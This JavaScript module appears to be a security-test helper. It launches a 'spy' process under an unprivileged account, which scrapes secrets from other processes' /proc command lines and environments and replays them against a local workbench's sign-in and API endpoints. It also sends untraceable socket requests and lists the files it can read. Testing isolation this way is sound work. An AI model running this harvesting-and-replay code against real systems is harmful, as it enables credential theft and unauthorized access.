/** A spy: a program of another account of this computer that looks for a way into a workbench. */
import { spawn } from 'node:child_process';
import { unprivilegedId } from './full-state.mjs';

/** What a link, a session or a key looks like: 256 bits as base64url. */
export const secretPattern = /[\w-]{43}/g;

/**
 * Collects every secret in the command lines and environments of all processes, and tries each in every way until the time
 * is over. Prints the secrets, the ways that worked, and the files that it could read. It is a text, not a file, because the
 * other account may not be allowed to read this folder.
 */
const spyProgram = `
  const { readdirSync, readFileSync, statSync } = require('node:fs');
  const { connect } = require('node:net');
  const [origin, folder, durationMs, ...leaked] = process.argv.slice(1);
  const seen = new Set(leaked), used = new Set(), entered = [], readable = [];
  const post = (path, headers, body) => fetch(origin + path, { method: 'POST', body: JSON.stringify(body),
    headers: { 'content-type': 'application/json', ...headers } }).then((r) => r.json()).catch(() => ({}));
  async function use(secret) {
    const exchanged = await post('/api/sign-in', {}, { code: secret });
    if (exchanged.ok) entered.push('exchanged a code');
    for (const scheme of ['Bearer', 'Key']) {
      const headers = { authorization: scheme + ' ' + secret };
      if ((await post('/api/call/workspace.get', headers, {})).ok) entered.push('called with ' + scheme);
      if ((await post('/api/codes', headers, {})).ok) entered.push('made a link with ' + scheme);
    }
  }
  (async () => {
    const end = Date.now() + Number(durationMs);
    do {
      for (const pid of readdirSync('/proc').filter((name) => /^\\d+$/.test(name) && name !== String(process.pid)))
        for (const file of ['cmdline', 'environ', 'comm'])
          try {
            const text = readFileSync('/proc/' + pid + '/' + file, 'utf8');
            if (text.includes(origin)) for (const secret of text.match(${secretPattern})) seen.add(secret);
          } catch {}
      for (const secret of seen) if (!used.has(secret)) { used.add(secret); await use(secret); }
      await new Promise((resolve) => setTimeout(resolve, 5));
    } while (Date.now() < end);
    for (const secret of seen) await use(secret);
    // Requests that do not wait for an answer: the system's table names no owner of a closed socket.
    for (const secret of leaked)
      for (let number = 0; number < 30; number++) await new Promise((resolve) => {
        const body = JSON.stringify({ name: 'Owned ' + number });
        const socket = connect(Number(new URL(origin).port), '127.0.0.1', () => {
          socket.write('POST /api/call/server.create HTTP/1.1\\r\\nHost: ' + origin.slice(7) + '\\r\\nAuthorization: Bearer ' +
            secret + '\\r\\nContent-Type: application/json\\r\\nContent-Length: ' + body.length + '\\r\\n\\r\\n' + body,
            () => (number % 2 === 0 ? socket.resetAndDestroy() : socket.destroy()));
        });
        socket.on('error', () => {});
        socket.on('close', resolve);
      });
    const look = (path) => {
      try {
        if (statSync(path).isDirectory()) for (const name of readdirSync(path)) look(path + '/' + name);
        else { readFileSync(path); readable.push(path); }
      } catch {}
    };
    look(folder);
    console.log(JSON.stringify({ seen: [...seen], entered, readable }));
  })();
`;

/**
 * Runs the spy.
 * @param {{ origin: string, folder: string, leaked: readonly string[], durationMs: number }} options the workbench, the
 *   folder that the spy reads, and secrets that it already has
 * @returns {Promise<{ seen: string[], entered: string[], readable: string[] }>}
 */
export async function spy({ origin, folder, leaked, durationMs }) {
  const child = spawn(process.execPath, ['-e', spyProgram, origin, folder, String(durationMs), ...leaked], {
    uid: unprivilegedId,
    gid: unprivilegedId,
    cwd: '/',
    env: {},
  });
  let output = '';
  child.stdout.on('data', (chunk) => {
    output += chunk;
  });
  child.stderr.on('data', (chunk) => {
    output += chunk;
  });
  await new Promise((resolve) => child.once('close', resolve));
  return JSON.parse(output);
}
